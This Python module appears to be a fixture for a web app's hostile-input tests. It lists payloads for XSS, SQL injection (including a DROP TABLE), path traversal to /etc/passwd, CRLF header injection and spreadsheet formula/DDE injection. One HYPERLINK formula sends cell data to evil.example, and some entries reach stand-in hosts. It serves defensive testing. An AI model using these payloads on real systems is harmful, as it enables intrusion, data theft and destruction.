"""A standing corpus of hostile inputs: what a careless, curious or malicious user might type or
upload. Each is (name, text). tests/hostile/test_corpus.py sends every one through every form."""

import json

SCRIPT = "<script>alert('hostile')</script>"

CORPUS: list[tuple[str, str]] = [
    # Script and markup injection
    ("script tag", SCRIPT),
    ("img onerror", '<img src=x onerror="alert(1)">'),
    ("attribute breakout", '"><svg onload=alert(1)>'),
    ("single-quote breakout", "'><script>alert(2)</script>"),
    ("javascript url", "javascript:alert(document.cookie)"),
    ("markdown javascript link", "[click me](javascript:alert(1))"),
    ("markdown data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown remote image", "![tracker](http://203.0.113.9/pixel.png)"),
    ("local file image", '<img src="file:///etc/passwd">'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("style block", "<style>body{display:none}</style>"),
    ("css import", "<style>@import url(http://evil.example/x.css);</style>"),
    ("mathml href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("html comment", "<!-- hidden --> visible"),
    ("cdata end", "]]><x>"),
    ("django template", "{{ request.user.password }}{% debug %}"),
    ("template literal", "${7*7} #{7*7} <%= 7*7 %>"),
    ("pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;"),
    ("full-width brackets", "＜script＞alert(1)＜/script＞"),
    ("nested divs", "<div>" * 5000),
    # SQL-looking text
    ("sql tautology", "' OR '1'='1"),
    ("sql drop", "'; DROP TABLE people_person; --"),
    ("sql union", "1 UNION SELECT password FROM people_person --"),
    ("sql like wildcard", "%_%' --"),
    ("backslash quote", "\\'; \\\" \\\\"),
    # Path traversal
    ("dot-dot slash", "../../../../etc/passwd"),
    ("dot-dot backslash", "..\\..\\..\\windows\\win.ini"),
    ("absolute path", "/etc/shadow"),
    ("encoded traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("file url", "file:///etc/passwd"),
    # NUL, lone surrogates and other characters that are not text
    ("NUL inside", "before\x00after"),
    ("NUL alone", "\x00"),
    ("lone high surrogate", "\ud800"),
    ("lone low surrogate inside", "a\udfffb"),
    ("escape sequences", "\x1b[31mred\x1b[0m\x07\x08"),
    ("line separators", "one\u2028two\u2029three"),
    ("zero width", "in\u200bvisi\u200dble\ufeff"),
    # Bidirectional overrides
    ("bidi override", "invoice\u202egpj.exe"),
    ("bidi isolates", "\u2066admin\u2069 \u2067x\u2069"),
    ("arabic mixed", "مرحبا hello שלום"),
    # CRLF and header injection
    ("crlf header", "subject\r\nBcc: victim@example.org"),
    ("crlf set-cookie", "x\r\nSet-Cookie: session=stolen"),
    ("crlf blank line", "x\r\n\r\n<html>injected</html>"),
    ("lone carriage returns", "a\rb\rc"),
    # Spreadsheet formula prefixes
    ("formula equals", "=1+1"),
    ("formula hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("formula dde", "+cmd|' /C calc'!A0"),
    ("formula minus", "-2+3+cmd|' /C notepad'!A1"),
    ("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula after tab", "\t=1+1"),
    # Long strings
    ("10,000 letters", "A" * 10_000),
    ("10,000 accented", "é" * 10_000),
    ("5,000 emoji", "😀" * 5_000),
    ("10,000 without a break", "x" * 9_990 + "/path/end"),
    ("10,000 words", "word " * 2_000),
    ("zalgo", "Z̷̢͉̖̹̗̤͙̳̯͎͆̏̊̃̽͌̽̊a̶̛̗̫͙̪̖̯̤̺̽̆̀͆̌͆l̷̢̨̮͔̲͇̞̗̇͆̀g̵̢̛̪̼̜̈́̅̎̆o̸͍͕͖̖͂̈" * 100),
    # Deep nesting: Markdown, lists, JSON, quotes
    ("nested quotes", "> " * 2_000 + "deep"),
    ("nested list", "- " * 3_000 + "deep"),
    ("indented list", "\n".join(" " * (4 * n) + "- level" for n in range(300))),
    ("nested emphasis", "*" * 2_000 + "x" + "*" * 2_000),
    ("nested links", "[" * 5_000 + "x" + "](y)" * 5_000),
    ("nested brackets", "(" * 5_000 + ")" * 5_000),
    ("nested json", "[" * 10_000 + "]" * 10_000),
    ("nested json objects", '{"a":' * 1_000 + "1" + "}" * 1_000),
    ("json surrogate", json.dumps({"phrase": "\ud800"})),
    ("many quotes", '"' * 5_000),
    ("many apostrophes", "'" * 5_000),
    ("code fences", "```\n" * 1_000),
    ("table bomb", "|" * 5_000 + "\n" + "|-" * 2_500),
    # Format strings and odd numbers
    ("printf", "%s%s%s%n%x"),
    ("python format", "{0.__class__.__mro__}{{"),
    ("huge number", "9" * 400),
    ("not a number", "NaN"),
    ("negative", "-1"),
    ("impossible date", "2026-02-30"),
    # Empty and white space
    ("empty", ""),
    ("spaces", "     "),
    ("newlines", "\n\n\n"),
]
